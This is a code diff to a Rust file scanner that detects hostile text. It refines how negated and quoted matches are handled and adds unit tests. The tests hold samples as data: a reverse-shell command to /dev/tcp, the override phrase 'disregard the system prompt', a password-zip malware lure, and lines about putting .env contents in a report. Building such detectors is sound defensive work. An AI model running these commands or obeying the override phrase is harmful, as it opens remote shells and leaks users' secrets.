@@ -17,9 +17,9 @@ use invisible::{ZERO_WIDTH, invisible};
 use reading::data_line;
 use reading::{
     continues_paragraph, defensive, is_defensive, is_pattern_literal, join_window, negated_before,
-    quote_is_example, teaching_heading, test_data_literal,
+    negated_from_before, quote_is_example, teaching_heading, test_data_literal,
 };
-pub use reading::{in_html_tag, is_quoted, quoted_from_before};
+pub use reading::{in_html_tag, is_quoted, is_quoted_match, quoted_from_before};
 
 /// Longest evidence excerpt, in characters.
 pub const EVIDENCE_CHARS: usize = 160;
@@ -577,7 +577,12 @@ pub fn scan_file(rules: &RuleSet, file: &str, content: &str) -> FileScan {
                 let rule = &rules.rules[hit.rule];
                 let mention = rules.mention_contexts(hit.rule).iter().find(|c| match c {
                     Context::Comment => ctx.comment,
-                    Context::Negated => ctx.negated && negated_before(line, hit.start),
+                    Context::Negated => {
+                        ctx.negated
+                            && (negated_before(line, hit.start)
+                                || kind == FileKind::Markdown
+                                    && negated_from_before(content, line_start, line, hit.start))
+                    }
                     Context::Defensive => {
                         ctx.defensive
                             || heading_teaches
@@ -589,7 +594,7 @@ pub fn scan_file(rules: &RuleSet, file: &str, content: &str) -> FileScan {
                     Context::Quoted => {
                         !in_code
                             && !in_html_tag(line, hit.start)
-                            && (is_quoted(line, hit.start)
+                            && (is_quoted_match(line, hit.start, hit.end)
                                 || quoted_from_before(content, line_start, line, hit.start))
                     }
                     Context::Test => place.test,
@@ -702,6 +707,52 @@ mod tests {
         let q = r#"Attackers hide text with "font-size:0" in a span."#;
         assert!(!super::in_html_tag(q, q.find("font-size").unwrap()));
         assert!(!super::in_html_tag("a < b and \"c\"", 12));
+    }
+
+    #[test]
+    fn a_match_is_quoted_only_inside_one_quote() {
+        let l = "download `VoiceCore.zip` (password: `vc`). Extract it";
+        let at = l.find("zip").unwrap();
+        assert!(!super::is_quoted_match(l, at, l.find("vc`").unwrap() + 2));
+        let q = r#"Lures say "download the zip, password 1234" to get past scanners."#;
+        let at = q.find("download").unwrap();
+        assert!(super::is_quoted_match(q, at, q.find("1234").unwrap() + 4));
+    }
+
+    #[test]
+    fn negation_carries_over_a_soft_wrap() {
+        let c = "Redact tokens before pasting them. Never include\nthe contents of `.env` in a report.\n";
+        let start = c.find("the contents").unwrap();
+        let line = &c[start..c.len() - 1];
+        assert!(super::negated_from_before(c, start, line, 4));
+        let list = "Never do this.\n- include the contents of `.env` in the report\n";
+        let start = list.find("- include").unwrap();
+        let line = &list[start..list.len() - 1];
+        assert!(!super::negated_from_before(list, start, line, 10));
+        let done = "Do not stop. Always\ninclude the contents of `.env`.\n";
+        let start = done.find("include").unwrap();
+        assert!(!super::negated_from_before(
+            done,
+            start,
+            &done[start..done.len() - 1],
+            8
+        ));
+    }
+
+    #[test]
+    fn raw_string_entries_are_detector_patterns() {
+        assert!(super::is_pattern_literal(
+            r#"    r"disregard the system prompt","#
+        ));
+        assert!(super::is_pattern_literal(
+            r#"    "bash-dev-tcp": r"bash -i >& /dev/tcp/","#
+        ));
+        assert!(!super::is_pattern_literal(
+            r#"    CMD = r"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1""#
+        ));
+        assert!(!super::is_pattern_literal(
+            r#"    os.system(r"bash -i >& /dev/tcp/x/1"),"#
+        ));
     }
 
     #[test]
